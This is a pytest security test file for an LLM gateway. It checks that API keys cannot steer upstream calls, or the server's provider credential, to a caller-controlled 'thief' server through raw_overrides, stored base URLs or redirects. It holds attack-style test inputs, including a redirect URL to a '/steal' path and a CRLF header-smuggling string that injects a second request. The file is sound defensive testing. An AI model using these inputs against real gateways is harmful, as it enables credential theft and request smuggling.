"""Where the server's provider credentials may go, attacked as the hostile probe did: a caller
holding an invoke key (or an admin key) tries to send the upstream call, with its key, to a
server of its own through Vellum's `raw_overrides`, a stored credential's base URL, or an
upstream's redirect. Every upstream here is a fake on loopback (tests/support/fake_openai.py);
the "thief" is a second one that records what reaches it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from promptdeck.domain.errors import Forbidden
from promptdeck.domain.override_policy import check_raw_overrides
from promptdeck.domain.upstream_urls import base_url_problem, is_under
from tests.conftest import Deck
from tests.support import fake_openai
from tests.support.fake_openai import INPUTS, FakeOpenAI, Script, StartDeck, push_prompt, refused_url, run_of

upstream, start_deck = fake_openai.upstream, fake_openai.start_deck

SERVER_KEY = "sk-server-secret-0123456789"
VELLUM_INPUTS = [{"type": "STRING", "name": name, "value": value} for name, value in INPUTS.items()]


@pytest.fixture
def thief() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as server:
        yield server


def new_key(deck: Deck, *scopes: str) -> str:
    with deck.client() as client:
        response = client.post("/api/keys", json={"name": "k", "scopes": list(scopes)})
    assert response.status_code == 201, response.text
    return str(response.json()["api_key"])


def execute(deck: Deck, key: str, **body: Any) -> httpx.Response:
    payload = {"prompt_deployment_name": "fast", "inputs": VELLUM_INPUTS} | body
    return httpx.post(f"{deck.url}/v1/execute-prompt", json=payload, headers={"X-API-KEY": key}, timeout=30)


def credentials_seen(server: FakeOpenAI) -> list[str | None]:
    return [seen.headers.get("authorization") for seen in server.seen]


# ── raw_overrides ──────────────────────────────────────────────────────────────


@pytest.mark.parametrize("scope", ["invoke", "admin"])
def test_no_key_can_send_the_upstream_call_to_a_url_of_its_choosing(
    start_deck: StartDeck, thief: FakeOpenAI, scope: str
) -> None:
    deck = start_deck(openai_api_key=SERVER_KEY)
    key = new_key(deck, scope)

    response = execute(deck, key, raw_overrides={"url": thief.url + "/steal"})

    assert response.status_code == 403, response.text
    message = response.json()["detail"]
    assert "raw_overrides.url" in message and "PROMPTDECK_RAW_OVERRIDE_URLS" in message
    assert thief.seen == []
    deck.flush()
    (run,) = [r for r in deck.runs() if r["dialect"] == "vellum"]
    assert (run["status"], run["error_code"]) == ("error", "forbidden")  # a refused run is still logged


def test_an_allowed_override_url_gets_no_credential_it_was_not_stored_for(
    upstream: FakeOpenAI, start_deck: StartDeck, thief: FakeOpenAI
) -> None:
    deck = start_deck(openai_api_key=SERVER_KEY, raw_override_urls=thief.url)
    with deck.client() as client:  # the workspace's own credential, for the usual upstream
        stored = client.put("/api/providers/openai/credential", json={"api_key": "sk-workspace-key"})
    assert stored.status_code == 200, stored.text

    response = execute(deck, new_key(deck, "invoke"), raw_overrides={"url": thief.url + "/chat/completions"})
    assert response.status_code == 200, response.text
    assert response.json()["state"] == "FULFILLED"
    assert credentials_seen(thief) == [None]  # neither the server's key nor the workspace's

    plain = execute(deck, new_key(deck, "invoke"))
    assert plain.json()["state"] == "FULFILLED"
    assert credentials_seen(upstream) == ["Bearer sk-workspace-key"]


def test_an_invoke_key_may_not_change_the_model_limits_prompt_or_credential(start_deck: StartDeck) -> None:
    deck = start_deck(openai_api_key=SERVER_KEY)
    key = new_key(deck, "invoke")

    body = {"model": "gpt-5-pro", "max_tokens": 100000, "messages": [], "temperature": 0.1}
    headers = {"Authorization": "Bearer mine", "X-Trace": "1"}
    response = execute(deck, key, raw_overrides={"body": body, "headers": headers})

    assert response.status_code == 403, response.text
    message = response.json()["detail"]
    assert "raw_overrides.body: max_tokens, messages, model may not be replaced" in message
    assert "raw_overrides.headers: authorization may not be set per call with an invoke key" in message
    assert "temperature" not in message and "x-trace" not in message


def test_what_an_invoke_key_may_override_reaches_the_upstream(
    upstream: FakeOpenAI, start_deck: StartDeck
) -> None:
    deck = start_deck(openai_api_key=SERVER_KEY)
    overrides = {"body": {"temperature": 0.9, "user": "u-1"}, "headers": {"X-Trace": "t-1"}}

    response = execute(deck, new_key(deck, "invoke"), raw_overrides=overrides)

    assert response.json()["state"] == "FULFILLED", response.text
    (seen,) = upstream.seen
    assert (seen.body["temperature"], seen.body["user"], seen.headers["x-trace"]) == (0.9, "u-1", "t-1")
    assert seen.body["model"] == "fast" and seen.headers["authorization"] == f"Bearer {SERVER_KEY}"


def test_an_admin_key_may_override_the_body_but_never_framing_headers(
    upstream: FakeOpenAI, start_deck: StartDeck
) -> None:
    deck = start_deck(openai_api_key=SERVER_KEY)
    tuned = execute(deck, deck.admin_key, raw_overrides={"body": {"max_tokens": 5}})
    assert tuned.json()["state"] == "FULFILLED", tuned.text
    assert upstream.seen[-1].body["max_tokens"] == 5

    refused = execute(
        deck, deck.admin_key, raw_overrides={"headers": {"Host": "elsewhere", "Content-Length": "1"}}
    )
    assert refused.status_code == 403
    assert "content-length, host may not be set per call" in refused.json()["detail"]


def test_no_header_value_can_smuggle_a_header_or_a_request(
    upstream: FakeOpenAI, start_deck: StartDeck
) -> None:
    """An admin key may set headers, but a line break in one would write a header (or a whole
    request) of its choosing onto the upstream connection: the call fails, and is logged."""
    deck = start_deck(openai_api_key=SERVER_KEY)
    smuggled = "1\r\nX-Injected: yes\r\n\r\nPOST /steal HTTP/1.1"
    response = execute(deck, deck.admin_key, raw_overrides={"headers": {"X-Team": smuggled}})

    assert response.status_code == 200 and response.json()["state"] == "REJECTED", response.text
    assert "cannot be sent" in response.json()["error"]["message"]
    assert upstream.seen == []
    deck.flush()
    (run,) = [r for r in deck.runs() if r["dialect"] == "vellum"]
    assert (run["status"], run["error_code"]) == ("error", "invalid_request")


def test_the_policy_matches_urls_by_origin_and_path_segment() -> None:
    assert is_under("https://a.example/v1/chat", "https://a.example/v1")
    assert is_under("https://a.example/v1", "https://a.example/v1/")
    assert not is_under("https://a.example/v10", "https://a.example/v1")
    assert not is_under("https://a.example.evil/v1", "https://a.example/v1")
    assert not is_under("https://a.example:8443/v1", "https://a.example/v1")
    assert not is_under("http://a.example/v1", "https://a.example/v1")
    assert not is_under("https://user:pw@a.example/v1", "https://a.example/v1")
    assert not is_under("https://a.example:port/v1", "https://a.example/v1")
    with pytest.raises(Forbidden):
        check_raw_overrides({"url": "https://a.example/v10"}, ("admin",), ("https://a.example/v1",))
    check_raw_overrides({"url": "https://a.example/v1/x"}, ("invoke",), ("https://a.example/v1",))


# ── stored credentials and the server's own key ───────────────────────────────


def test_the_servers_key_never_goes_to_a_workspaces_base_url(
    upstream: FakeOpenAI, start_deck: StartDeck, thief: FakeOpenAI
) -> None:
    deck = start_deck(openai_api_key=SERVER_KEY)
    with deck.client() as client:
        stored = client.put(
            "/api/providers/openai/credential", json={"api_key": "sk-their-own", "base_url": thief.url}
        )
    assert stored.status_code == 200, stored.text

    assert execute(deck, new_key(deck, "invoke")).json()["state"] == "FULFILLED"
    assert credentials_seen(thief) == ["Bearer sk-their-own"]  # the credential stored for that URL
    assert upstream.seen == []


@pytest.mark.parametrize(
    "base_url",
    ["http://user:pa55word@127.0.0.1:9/v1", "http://127.0.0.1:9/v1?token=pa55word", "ftp://127.0.0.1/v1"],
)
def test_a_credentials_base_url_holds_no_secret(start_deck: StartDeck, base_url: str) -> None:
    deck = start_deck()
    with deck.client() as client:
        response = client.put("/api/providers/openai/credential", json={"api_key": "k", "base_url": base_url})
    assert response.status_code == 422, response.text
    assert "base_url" in response.json()["error"]["message"]
    assert "pa55word" not in response.json()["error"]["message"]
    assert base_url_problem("https://api.example.com/v1") is None


@pytest.mark.parametrize(
    ("base_url", "code"),
    [
        ("http://alice:pa55word@127.0.0.1:{port}/v1", "upstream_misconfigured"),
        ("http://127.0.0.1:{port}/v1?token=pa55word", "upstream_unreachable"),
    ],
)
def test_a_secret_in_the_servers_base_url_never_reaches_a_caller(
    start_deck: StartDeck, base_url: str, code: str
) -> None:
    port = refused_url().split(":")[2].split("/")[0]
    deck = start_deck(upstream_url=base_url.format(port=port))

    response = execute(deck, deck.admin_key)

    assert response.status_code == 200 and response.json()["state"] == "REJECTED", response.text
    assert "pa55word" not in response.text and "alice" not in response.text
    run = run_of(deck, response.json()["execution_id"])
    assert run["error_code"] == code and "pa55word" not in str(run)


def test_an_upstream_redirect_is_not_followed_with_the_key(
    upstream: FakeOpenAI, start_deck: StartDeck, thief: FakeOpenAI
) -> None:
    upstream.scripts["fast"] = Script(status=307, headers=(("Location", thief.url + "/chat/completions"),))
    deck = start_deck(openai_api_key=SERVER_KEY)

    response = execute(deck, deck.admin_key)

    assert response.json()["state"] == "REJECTED", response.text
    assert "redirect" in response.json()["error"]["message"]
    assert thief.seen == []


# ── circuit breakers ─────────────────────────────────────────────────────────


def test_one_workspace_cannot_open_another_workspaces_circuit(start_deck: StartDeck) -> None:
    """The probe's attack: workspace B's calls to a dead URL (its own credential's) must leave
    workspace A's calls to the same provider untouched."""
    dead = refused_url()
    deck = start_deck()
    access = deck.services.access

    async def second_workspace() -> str:
        workspace_id = await access.create_workspace("b")
        _, secret = await access.create_key(workspace_id, "b-admin", ["admin"])
        return secret

    other = deck.live.call(second_workspace)
    push_prompt(deck.url, other, "fast", "openai/fast")
    with httpx.Client(base_url=deck.url, headers={"Authorization": f"Bearer {other}"}) as client:
        stored = client.put("/api/providers/openai/credential", json={"api_key": "k", "base_url": dead})
        assert stored.status_code == 200, stored.text
        for _ in range(deck.services.engine.breakers.threshold + 1):
            assert execute(deck, other).json()["state"] == "REJECTED"
        last = execute(deck, other).json()["error"]["message"]
        assert "stops calling it" in last  # B's own circuit is open

    answer = execute(deck, deck.admin_key)
    assert answer.json()["state"] == "FULFILLED", answer.text
